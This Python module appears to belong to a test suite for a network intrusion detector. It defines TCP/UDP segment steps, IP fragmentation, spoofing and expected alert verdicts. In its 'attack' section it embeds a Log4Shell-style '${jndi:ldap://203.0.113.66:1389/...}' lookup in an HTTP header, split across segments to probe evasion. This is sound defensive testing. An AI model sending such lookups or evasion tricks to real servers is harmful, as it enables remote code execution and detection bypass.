# SPDX-License-Identifier: GPL-2.0-or-later
"""What a case is: steps of a client, the host it talks to, and how the capture saw it.

The steps are played twice. record.py plays them to a real Linux socket and keeps what the host sent back and what the
socket delivered; run.py plays them again beside that recorded answer, and writes the capture. Sequence numbers are
relative: 0 is the SYN, 1 the first byte."""
import dataclasses
import hashlib
import struct
import typing

import wire

SERVER = {4: "192.0.2.80", 6: "2001:db8::80"}
PORT = 80
ECHO = object()  # a time stamp's echo: what the host said last


@dataclasses.dataclass
class C:
    """A segment of the client's. None: what an ordinary client would put there."""
    seq: typing.Any = 1              # number, or function of the Wire
    data: bytes = b""
    flags: str = None
    ack: typing.Any = None
    window: int = 64240
    options: bytes = b""
    ts: int = None                   # time stamp option
    echo: typing.Any = ECHO
    bad_sum: bool = False
    words: int = None                # header length
    urgent: int = 0
    reserved: int = 0
    ip: dict = dataclasses.field(default_factory=dict)      # for wire.ipv4 or wire.ipv6
    extensions: tuple = ()           # IPv6
    pieces: typing.Any = None        # function(segment) to [(offset, bytes, more, {ip})]: fragments
    patch: typing.Any = None         # function(packet): the last word
    wait: float = 0.0                # seconds after it
    sums: bool = False               # a piece has a wrong checksum
    spoof: bool = False              # sent in the host's name: only the capture sees it
    dies: bool = False               # on its way to the host: only the capture sees it


@dataclasses.dataclass
class U:
    """A datagram of the client's."""
    data: bytes
    options: dict = dataclasses.field(default_factory=dict)  # for wire.udp
    ip: dict = dataclasses.field(default_factory=dict)
    extensions: tuple = ()
    pieces: typing.Any = None
    wait: float = 0.0
    patch: typing.Any = None


@dataclasses.dataclass
class Raw:
    """A whole packet, made by a function of the Wire."""
    make: typing.Any
    wait: float = 0.0


@dataclasses.dataclass
class Host:
    """The program on the host does something: close, read, send, reset, connect."""
    act: str
    data: bytes = b""
    wait: float = 0.0


@dataclasses.dataclass
class Again:
    """The client begins a new connection from the same port."""
    isn: int


class Wire:
    """Turns steps into packets; learns from what the host sends."""

    def __init__(self, case):
        self.case, self.family = case, case.family
        self.client, self.sport, self.isn = case.client, case.sport, case.isn
        self.host_isn, self.host_next, self.tsval = None, 0, 0
        self.ack, self.edge, self.shift = 0, 65535, 0  # what the host acknowledged, relative; where its window ends
        self.ident = 0x1000
        self.sent = []

    @property
    def server(self):
        return SERVER[self.family]

    def value(self, x):
        return x(self) if callable(x) else x

    def packets(self, step):
        made = self._packets(step)
        self.sent += made
        return made

    def _packets(self, step):
        if isinstance(step, Again):
            self.isn, self.host_isn, self.host_next, self.ack, self.edge = step.isn, None, 0, 0, 65535
            return []
        if isinstance(step, Host):
            return []
        if isinstance(step, Raw):
            made = step.make(self)
            return made if isinstance(made, list) else [made]
        if isinstance(step, U):
            segment, proto = wire.udp(self.client, self.server, self.sport, PORT, step.data, **step.options), wire.UDP
        else:
            segment, proto = self.segment(step), wire.TCP
        packets = self.dressed(step, proto, segment)
        return [step.patch(p) for p in packets] if step.patch else packets

    def segment(self, s):
        flags = s.flags if s.flags is not None else ("PA" if s.data else "A")
        options = s.options
        if s.ts is not None:
            options += wire.timestamps(s.ts, self.tsval if s.echo is ECHO else s.echo)
        if s.spoof:
            return wire.tcp(self.server, self.client, PORT, self.sport, (self.host_isn or 0) + self.value(s.seq),
                            self.isn + (self.ack if s.ack is None else self.value(s.ack)), flags, s.window, options, s.data)
        if s.ack is not None:
            ack = (self.host_isn or 0) + self.value(s.ack)
        else:
            ack = self.host_isn + self.host_next if self.host_isn is not None and "A" in flags else 0
        return wire.tcp(self.client, self.server, self.sport, PORT, self.isn + self.value(s.seq), ack, flags, s.window, options,
                        s.data, s.urgent, s.words, s.bad_sum, s.reserved)

    def dressed(self, s, proto, segment):
        """The IP header, or several: fragments."""
        src, dst = (self.server, self.client) if getattr(s, "spoof", False) else (self.client, self.server)
        self.ident = self.ident % 0xffff + 1
        pieces = s.pieces(segment) if s.pieces else [(0, segment, None, {})]
        out = []
        for offset, data, more, extra in pieces:
            fields = dict(s.ip, **extra)
            if self.family == 4:
                fields.setdefault("ident", self.ident)
                fields.setdefault("dont", not s.pieces)
                out.append(wire.ipv4(src, dst, fields.pop("proto", proto), data, offset=offset,
                                     more=bool(fields.pop("more", more)), **fields))
                continue
            ident, chain = fields.pop("ident", self.ident), list(s.extensions)
            following = fields.pop("proto", proto)
            inner = fields.pop("inner", None)  # the fragmentable part begins with other headers
            if more is not None:
                chain.append(lambda nh, o=offset, m=more, i=ident: wire.fragment6(nh, o, m, i))
            number, body = wire.chained(chain, following if inner is None else inner, data)
            out.append(wire.ipv6(src, dst, number, body, **fields))
        return out

    def heard(self, seg):
        """A segment that the host sent, with true numbers."""
        if "S" in seg.flags:
            self.host_isn, self.host_next = seg.seq, 1
            shift = wire.option(seg.options, 3)
            self.shift = shift[0] if shift else 0
        if self.host_isn is None:
            return  # a reset in answer to nothing: its number is the client's own
        end = (seg.seq - self.host_isn + len(seg.data) + ("F" in seg.flags)) & wire.M32
        if "R" not in seg.flags and "S" not in seg.flags and end < 1 << 31:
            self.host_next = max(self.host_next, end)
        if "A" in seg.flags and "R" not in seg.flags:
            ack = (seg.ack - self.isn) & wire.M32
            if ack < 1 << 31:
                self.ack = ack
                self.edge = ack + (seg.window << (0 if "S" in seg.flags else self.shift))
        stamp = wire.option(seg.options, 8)
        if stamp and len(stamp) == 8:
            self.tsval = struct.unpack("!I", stamp[:4])[0]


@dataclasses.dataclass
class Case:
    group: str
    name: str
    steps: list
    family: int = 4
    isn: int = 0x10000000
    host_isn: int = 0x50000000     # in the capture
    host: dict = dataclasses.field(default_factory=dict)  # record.py: mode, rcvbuf, eager, reply, sysctl, udp
    conflict: bool = False         # copies differ: an alert on the one that lost is right, too
    attempt: bool = False          # sent to a host that had no socket for it: to alert and not to alert are both right
    want: str = None               # alert, none, gap, told: by reasoning; None: what the socket delivered
    why: str = ""                  # of a reasoned verdict
    view: typing.Any = None        # function(packets) to packets: what the capture saw
    link: typing.Any = None        # links.stack(...); None is Ethernet
    dlt: int = 1
    file: str = "us"               # us, ns, big, ng
    ordinary: bool = True          # False: hostile or odd
    client: str = None
    sport: int = 0

    @property
    def id(self):
        return self.group + "/" + self.name

    @property
    def tag(self):
        return tag_of(self.id)


def tag_of(ident):
    return hashlib.sha1(ident.encode()).hexdigest()[:7]


# The attack --------------------------------------------------------------------------------------------------------
def lookup(tag, copy="r"):
    """The text that identifies a case, and which of two copies it is: r or x."""
    return b"${jndi:ldap://203.0.113.66:1389/%s%s}" % (tag.encode(), copy.encode())


def harmless(tag):
    """As long as a lookup."""
    text = b"release-2.14.1-build-%s-linux-x86-64" % tag.encode()
    return text[:len(lookup(tag))].ljust(len(lookup(tag)), b"-")


class Req:
    """A GET request, where in it the lookup stands, and its twin without one."""

    def __init__(self, ident, before=b"", after=b"", copy="r"):
        tag = tag_of(ident)
        head = b"GET /catalogue/item HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/7.88.1\r\n" + before + b"X-Api-Version: "
        tail = b"\r\nAccept: */*\r\n" + after + b"\r\n"
        self.text = head + lookup(tag, copy) + tail
        self.benign = head + harmless(tag) + tail
        self.other = head + lookup(tag, "x") + tail
        self.start, self.end = len(head), len(head) + len(lookup(tag))

    def __len__(self):
        return len(self.text)

    def at(self, a, b, text=None, **more):
        """The segment that carries bytes [a, b)."""
        return C(1 + a, (self.text if text is None else text)[a:b], **more)

    def bad(self, a, b, **more):
        return self.at(a, b, self.benign, **more)

    def cut(self, *places, text=None, **more):
        """The request in segments, cut at these places."""
        edges = [0, *places, len(self)]
        return [self.at(a, b, text, **more) for a, b in zip(edges, edges[1:])]


SYN_OPTIONS = b"\2\4\5\xb4\1\1\4\2\1\3\3\7"  # MSS 1460, SACK, window scale 7


def hello(options=SYN_OPTIONS, **more):
    return [C(0, flags="S", options=options, **more), C(1, **more)]


def goodbye(length, **more):
    return [C(1 + length, flags="FA", **more), C(2 + length, **more)]


def talk(steps, length, options=SYN_OPTIONS, **more):
    return hello(options, **more) + list(steps) + goodbye(length, **more)
